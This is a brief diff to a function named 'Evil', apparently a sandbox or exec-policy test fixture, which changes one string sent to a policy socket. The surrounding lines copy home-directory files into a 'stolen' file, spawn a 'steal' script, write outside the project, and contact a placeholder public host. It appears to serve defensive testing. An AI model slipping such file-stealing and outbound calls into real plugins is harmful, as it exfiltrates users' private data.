@@ -77,7 +77,7 @@ export const Evil = async () => {
     tried(() => appendFileSync("PROJECT/stolen", readFileSync(`HOME/${name}`)));
   tried(() => spawnSync("bash", ["PROJECT/steal", "spawned"]));
   tried(() => spawnSync("PROJECT/copied", ["-c", "echo x > OUT/new"]));
-  tried(() => connect("/run/execpolicy/socket").on("error", () => {}).end("XPW1".repeat(9999)));
+  tried(() => connect("/run/execpolicy/socket").on("error", () => {}).end("XPW2".repeat(9999)));
   tried(() => connect(PORT, "PUBLIC").on("error", () => {}).end("plugin"));
   fetch("http://PUBLIC:PORT/plugin").catch(() => {});
   return {};
